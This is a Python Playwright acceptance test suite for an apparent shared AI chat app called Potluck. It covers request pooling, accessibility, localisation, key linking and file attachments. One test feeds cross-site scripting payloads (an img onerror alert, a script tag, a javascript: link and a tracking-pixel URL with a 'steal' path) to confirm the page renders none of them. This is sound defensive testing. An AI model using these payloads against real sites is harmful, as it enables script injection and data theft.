"""The page in a real browser, over a real Potluck with its sandbox: what a person at the keyboard sees."""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Locator, Page, async_playwright, expect

from tests.acceptance.processes import Running, running
from tests.fakes.databases import HOME
from tests.fakes.files import png

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking", "--disable-sync"]

pytestmark = [
    pytest.mark.timeout(180),
    pytest.mark.skipif(
        CHROMIUM is None and not os.environ.get("CI"), reason="needs a chromium on the PATH (Debian: chromium)"
    ),
]

expect.set_options(timeout=20_000)

HANDED_OVER = """(element, [event, name, text]) => {
  const dataTransfer = new DataTransfer();
  dataTransfer.items.add(new File([text], name, { type: "text/plain" }));
  const made = { bubbles: true, cancelable: true };
  element.dispatchEvent(event === "paste" ? new ClipboardEvent(event, { ...made, clipboardData: dataTransfer })
    : new DragEvent(event, { ...made, dataTransfer }));
}"""
"""A file that is pasted, or dropped, on an element."""
CUT = """() => [document.documentElement, ...document.querySelectorAll("header, header *, .banner *, .foot *, .meta *")]
  .filter((one) => one.checkVisibility() && one.clientWidth && one.scrollWidth > one.clientWidth + 1)
  .filter((one) => !one.closest(".unseen")).map((one) => one.outerHTML.slice(0, 100))"""
"""What holds more than it shows."""


@dataclass(frozen=True)
class Opened:
    """A browser on the page of a Potluck."""

    page: Page
    complaints: list[str]
    """What the browser's console called an error."""
    potluck: Running


@asynccontextmanager
async def page_of(
    folder: Path, *, dark: bool = False, phone: bool = False, locale: str = "en-US", **env: str
) -> AsyncIterator[Opened]:
    """A fresh Potluck and a fresh browser on its page."""
    assert CHROMIUM, "no browser: .ci/run installs one"
    async with (
        running("run", folder=folder, env={**HOME.env(folder), "WEB_PORT": "0", **env}) as potluck,
        async_playwright() as play,
    ):
        url = (await potluck.line("Potluck")).split()[1]
        browser = await play.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            page = await browser.new_page(
                viewport={"width": 360, "height": 740} if phone else {"width": 1280, "height": 800},
                color_scheme="dark" if dark else "light",
                reduced_motion="reduce",
                locale=locale,
            )
            complaints: list[str] = []
            page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
            page.on("pageerror", lambda error: complaints.append(str(error)))
            await page.goto(url)
            await expect(page.get_by_role("textbox").first).to_be_visible()
            yield Opened(page, complaints, potluck)
        finally:
            await browser.close()


def seat(page: Page, name: str) -> Locator:
    return page.get_by_role("region", name=name, exact=True)


async def ask(page: Page, name: str, text: str) -> None:
    box = page.get_by_role("textbox", name=f"Ask as {name}")
    await box.fill(text)
    await box.press("Enter")


async def test_two_members_chat_one_is_stopped_and_one_is_refused(tmp_path: Path) -> None:
    # What is left of so small a pool goes by lot under the fair policy, so by the time of day: not what this is about.
    async with page_of(tmp_path, POOL_RPD="2", FAIR_POLICY="fcfs") as opened:
        page, complaints = opened.page, opened.complaints
        ann, ben, cy = seat(page, "Ann"), seat(page, "Ben"), seat(page, "Cy")
        await ask(page, "Ann", "Tell me something long about soup")
        await ask(page, "Ben", "Hello, what is a potluck?")
        await expect(ben.get_by_text("free ·")).to_be_visible()
        await ann.get_by_role("button", name="Stop").click()
        await expect(ann.get_by_text("topped").first).to_be_visible()
        await expect(page.get_by_text("2 of 2 used today")).to_be_visible()
        await ask(page, "Cy", "Is there anything left?")
        await expect(cy.get_by_text("pool is empty").first).to_be_visible()
        await expect(page.get_by_role("meter")).to_have_attribute("aria-valuenow", "2")
        assert complaints == []


async def test_the_page_survives_a_reload_and_says_it_is_a_sandbox(tmp_path: Path) -> None:
    async with page_of(tmp_path) as opened:
        page, complaints = opened.page, opened.complaints
        await expect(page.get_by_text("Sandbox").first).to_be_visible()
        await ask(page, "Ann", "Please remember the heron")
        await expect(seat(page, "Ann").get_by_text("free ·")).to_be_visible()
        await page.reload()
        await expect(seat(page, "Ann").get_by_text("Please remember the heron").first).to_be_visible()
        assert complaints == []


async def test_what_a_model_writes_runs_nothing_and_loads_nothing(tmp_path: Path) -> None:
    async with page_of(tmp_path) as opened:
        page, complaints = opened.page, opened.complaints
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        evil = (
            "sandbox:echo <img src=x onerror=alert(1)> ![pixel](http://127.0.0.1:9/steal?d=1) "
            "[click](javascript:alert(1)) <script>alert(1)</script>"
        )
        page.on("dialog", lambda dialog: complaints.append(dialog.message))
        await ask(page, "Ann", evil)
        await expect(seat(page, "Ann").get_by_text("free ·")).to_be_visible()
        assert not [url for url in asked if ":9/" in url]
        assert await page.locator(".answer img, .answer script").count() == 0
        assert await page.locator('.answer a[href^="javascript"]').count() == 0
        assert complaints == []


async def test_a_ten_thousand_character_question_is_taken(tmp_path: Path) -> None:
    async with page_of(tmp_path) as opened:
        page, complaints = opened.page, opened.complaints
        await ask(page, "Ben", "word " * 2000)
        await expect(seat(page, "Ben").get_by_text("free ·")).to_be_visible()
        assert complaints == []


@pytest.mark.parametrize(("dark", "phone"), [(False, False), (True, False), (False, True), (True, True)])
async def test_it_is_accessible_and_nothing_hangs_over_the_edge(tmp_path: Path, dark: bool, phone: bool) -> None:
    async with page_of(tmp_path, dark=dark, phone=phone, POOL_RPD="1", FAIR_POLICY="fcfs") as opened:
        page, complaints = opened.page, opened.complaints
        await ask(page, "Ann", "A list, a table and some code please")
        await expect(seat(page, "Ann").get_by_text("free ·")).to_be_visible()
        await ask(page, "Ann", "One more")
        await expect(seat(page, "Ann").locator(".trouble")).to_have_count(2)
        await seat(page, "Ann").get_by_role("button", name="Why?").last.click()
        await expect(seat(page, "Ann").locator(".why")).to_contain_text("first come, first served")
        results = await Axe().run(page)
        serious = [
            f"{found['id']}: {[node['target'] for node in found['nodes']]}"
            for found in results.response["violations"]
            if found["impact"] in ("serious", "critical")
        ]
        assert serious == []
        wide, shown = await page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
        assert wide <= shown
        assert complaints == []


async def test_a_german_reads_german_and_nothing_is_cut_off(tmp_path: Path) -> None:
    async with page_of(tmp_path, locale="de-AT", POOL_RPD="1", FAIR_POLICY="fcfs") as opened:
        page, complaints = opened.page, opened.complaints
        ann = seat(page, "Ann")
        for text in ("Was ist ein Potluck?", "Und was ist Regen?"):
            box = page.get_by_role("textbox", name="Als Ann fragen")
            await box.fill(text)
            await box.press("Enter")
            # Before the second, or the two would be one request.
            await expect(ann.get_by_text("kostenlos · 1 von heute 1 verbraucht")).to_be_visible()
        await expect(
            ann.get_by_text("Der heutige Topf ist leer: Seine eine kostenlose Anfrage ist verbraucht.").first
        ).to_be_visible()
        await expect(ann.get_by_role("button", name="Warum?").last).to_be_visible()
        await expect(page.get_by_text("keine Schlange")).to_be_visible()
        for width in (1280, 1000, 360):
            await page.set_viewport_size({"width": width, "height": 740})
            cut = await page.evaluate(CUT)
            assert cut == [], width
        assert complaints == []


@pytest.mark.parametrize(("dark", "phone"), [(False, False), (True, True)])
async def test_a_member_links_an_account_and_takes_it_away(tmp_path: Path, dark: bool, phone: bool) -> None:
    async with page_of(tmp_path, dark=dark, phone=phone) as opened:
        page, dialog = opened.page, opened.page.locator("#own-key")
        await seat(page, "Ann").get_by_role("button", name="Your own OpenRouter account").click()
        await expect(dialog).to_contain_text("of Ann’s own")
        await dialog.get_by_role("button", name="Get a link").click()
        async with page.expect_popup() as opening:
            await dialog.get_by_role("link", name="Open OpenRouter").click()
        there = await opening.value
        shown = re.search(r"auth_code_[0-9a-f]+", await there.content())
        assert shown is not None
        await there.close()
        results = await Axe().run(page)
        assert [
            found["id"] for found in results.response["violations"] if found["impact"] in ("serious", "critical")
        ] == []
        await dialog.get_by_label("Code that OpenRouter shows").fill(shown[0])
        await dialog.get_by_role("button", name="Link by code").click()
        await expect(dialog).to_contain_text("The key ends in")
        await expect(dialog.get_by_role("status")).to_contain_text("Linked.")
        await expect(dialog.get_by_role("button", name="Remove the key")).to_be_focused()
        await page.keyboard.press("Escape")
        await expect(dialog).to_be_hidden()
        await ask(page, "Ann", "Hello, what is a potluck?")
        await expect(seat(page, "Ann").get_by_text("your own key · no charge told")).to_be_visible()
        await expect(page.get_by_role("meter")).to_have_attribute("aria-valuenow", "0")

        await seat(page, "Ann").get_by_role("button", name="Your own OpenRouter account").click()
        await expect(dialog).to_contain_text("The key ends in")
        await dialog.get_by_role("button", name="Remove the key").click()
        await expect(dialog.get_by_role("status")).to_contain_text("Removed.")
        await dialog.get_by_text("Paste a key instead").click()
        await dialog.get_by_label("Key", exact=True).fill("no key at all")
        await dialog.get_by_role("button", name="Link by key").click()
        await expect(dialog.get_by_role("status")).to_contain_text("That is not an OpenRouter key.")
        # A request that is refused is what the browser complains of.
        assert [said for said in opened.complaints if "status of 400" not in said] == []


async def test_a_community_is_linked_by_a_command_and_what_is_pasted_is_shown_nowhere(tmp_path: Path) -> None:
    key = "sk-or-v1-" + "a1b2c3d4e5f60718" * 4
    async with page_of(tmp_path) as opened:
        page, ann = opened.page, seat(opened.page, "Ann")
        await ask(page, "Ann", "/admin key add")
        await ann.get_by_role("button", name="Paste the code").click()
        box = ann.get_by_label("The code that OpenRouter showed, or a key that you have made there")
        await expect(box).to_be_focused()
        await expect(box).to_have_attribute("type", "password")
        await box.fill(key)
        await box.press("Enter")
        await expect(ann.get_by_text("The account is linked.")).to_be_visible()
        await expect(ann.get_by_text(f"…{key[-4:]}")).to_be_visible()
        await ask(page, "Ann", f"/admin key paste {key}")
        await expect(ann.get_by_text("/admin key paste …")).to_be_visible()
        await expect(ann.get_by_text("The account is linked.")).to_have_count(2)
        assert key not in await page.content()
        assert opened.complaints == []


async def test_it_loses_the_server_and_finds_it_again(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = str(free.getsockname()[1])
    async with page_of(tmp_path, WEB_PORT=port) as opened:
        page = opened.page
        await ask(page, "Ann", "Please remember the heron")
        await expect(seat(page, "Ann").get_by_text("free ·")).to_be_visible()
        opened.potluck.signal(signal.SIGTERM)
        assert (await opened.potluck.ended()).code == 0
        await expect(page.locator("#lost")).to_be_visible()
        async with running("run", folder=tmp_path, env={"WEB_PORT": port}) as again:
            await again.line("Potluck")
            await expect(page.locator("#lost")).to_be_hidden()
            await ask(page, "Ann", "Are you back?")
            await expect(seat(page, "Ann").locator(".exchange")).to_have_count(2)
            await expect(seat(page, "Ann").locator(".exchange").last.get_by_text("free ·")).to_be_visible()


async def test_the_page_says_why_and_a_held_question_outlives_a_reload_and_a_restart(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = str(free.getsockname()[1])
    async with page_of(tmp_path, WEB_PORT=port, POOL_RPD="5", POOL_RPM="100") as opened:
        page, ann = opened.page, seat(opened.page, "Ann")
        asked = refused = 0
        # Late in the day nearly all of the pool is one share: many answers, so short ones, and room in the minute.
        while True:
            asked += 1
            await ask(page, "Ann", f"sandbox:shortened plate number {asked}")
            await expect(ann.locator('.exchange[data-state="ended"]')).to_have_count(asked)
            if await ann.locator('.trouble[data-kind="refused"]').count() == refused:
                continue
            refused += 1
            await expect(ann.get_by_text("You have had your share").last).to_be_visible()
            await ann.locator(".trouble").last.get_by_role("button", name="Why?").click()
            await expect(ann.locator(".why")).to_contain_text("Fresh start")
            if "Not now" in await ann.locator(".why").inner_text():
                break
            await page.keyboard.press("Escape")  # the level has risen meanwhile: there is room for one more
        for word in ("You have taken", "left for everyone", "kept for others", "starts afresh"):
            await expect(ann.locator(".why")).to_contain_text(word)
        await page.keyboard.press("Escape")
        await expect(ann.locator(".why")).to_be_hidden()

        await ann.get_by_role("button", name="Wait for room").last.click()
        await expect(ann.get_by_text("Your question is kept.")).to_be_visible()
        await expect(ann.locator(".exchange")).to_have_count(asked)  # it does not stand there twice
        await page.reload()
        await expect(ann.get_by_text("Your question is kept.")).to_be_visible()

        opened.potluck.signal(signal.SIGTERM)
        assert (await opened.potluck.ended()).code == 0
        # With a larger pool there is room at once: the next look finds it.
        async with running(
            "run", folder=tmp_path, env={**HOME.env(tmp_path), "WEB_PORT": port, "POOL_RPD": "1000", "POOL_RPM": "100"}
        ) as again:
            await again.line("Potluck")
            await expect(ann.locator(".exchange").last).to_have_attribute("data-state", "ended")
            await expect(ann.locator(".exchange").last).to_contain_text(f"sandbox:shortened plate number {asked}")
            await expect(ann.locator(".exchange").last.locator(".answer")).not_to_be_empty()
            await expect(ann.get_by_text("Your question is kept.")).to_be_hidden()
            await page.reload()
            await expect(
                ann.locator(".question").filter(has_text=f"sandbox:shortened plate number {asked}")
            ).to_have_count(1)


async def test_a_model_is_chosen_and_stays_chosen(tmp_path: Path) -> None:
    async with page_of(tmp_path) as opened:
        page = opened.page
        picker = seat(page, "Ann").get_by_label("Model that answers Ann")
        await picker.select_option(label="Sandbox: Harbor 24B (free)")
        await ask(page, "Ann", "hello")
        await expect(seat(page, "Ann").locator(".meta").first).to_contain_text("sandbox/harbor-24b · free")
        await page.reload()
        await expect(picker).to_have_value("sandbox/harbor-24b:free")
        assert opened.complaints == []


async def test_files_go_along_are_shown_and_can_be_taken_back(tmp_path: Path) -> None:
    cat, notes = tmp_path / "a rather long name for the picture of a cat.png", tmp_path / "notes.txt"
    cat.write_bytes(png(640, 480))
    notes.write_text("the heron stands in the reeds")
    async with page_of(tmp_path, dark=True, phone=True) as opened:
        page, ann = opened.page, seat(opened.page, "Ann")
        box, going = ann.get_by_role("textbox"), ann.get_by_role("list", name="Files that go along")
        async with page.expect_file_chooser() as choosing:
            await ann.get_by_role("button", name="Attach files").click()
        await (await choosing.value).set_files([cat, notes])
        await expect(going.get_by_role("listitem")).to_have_count(2)
        # By the keyboard alone: back from the text over the paperclip to the last file's button.
        await expect(box).to_be_focused()
        await page.keyboard.press("Shift+Tab")
        await page.keyboard.press("Shift+Tab")
        await expect(going.get_by_role("button", name="Remove notes.txt")).to_be_focused()
        await page.keyboard.press("Enter")
        await expect(going.get_by_role("listitem")).to_have_count(1)
        await expect(going.get_by_role("button", name=f"Remove {cat.name}")).to_be_focused()
        for event, target in (("paste", "textarea"), ("drop", ".log")):
            await ann.locator(target).evaluate(HANDED_OVER, [event, f"{event}.txt", "brought by hand"])
        await expect(going).to_contain_text("paste.txt")
        await expect(going).to_contain_text("drop.txt")
        await ann.locator("textarea").evaluate(HANDED_OVER, ["paste", "huge.bin", "x" * (5 * 2**20 + 1)])
        await expect(ann.get_by_text("“huge.bin” is too large: a file may have 5 MB.")).to_be_visible()
        results = await Axe().run(page)
        assert [
            found["id"] for found in results.response["violations"] if found["impact"] in ("serious", "critical")
        ] == []
        wide, shown = await page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
        assert wide <= shown

        await ann.get_by_role("button", name="Send").click()  # files alone are a question
        await expect(ann.get_by_text("I was shown a PNG of 640 × 480 pixels.")).to_be_visible()
        await expect(going).to_be_hidden()
        await page.reload()
        came = ann.get_by_role("list", name="Files that came with it")
        for name in (cat.name, "paste.txt", "drop.txt"):
            await expect(came).to_contain_text(name)
        assert opened.complaints == []
